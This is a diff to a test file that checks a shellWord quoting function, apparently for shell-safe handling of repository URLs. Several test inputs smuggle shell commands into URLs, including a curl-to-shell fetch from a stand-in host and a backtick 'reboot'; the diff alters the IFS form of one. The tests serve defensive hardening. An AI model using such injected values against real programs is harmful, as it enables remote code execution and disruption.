@@ -3,7 +3,7 @@ import { shellWord } from "./shell";
 
 test.each([
   ["https://github.com/owner/name.git", "https://github.com/owner/name.git"],
-  ["https://x.example/a;curl${IFS}evil|sh", "'https://x.example/a;curl${IFS}evil|sh'"],
+  ["https://x.example/a;curl$IFSevil|sh", "'https://x.example/a;curl$IFSevil|sh'"],
   ["https://x.example/`reboot`&", "'https://x.example/`reboot`&'"],
   ["https://x.example/it's", "'https://x.example/it'\\''s'"],
   ["https://x.example/*(x)", "'https://x.example/*(x)'"],
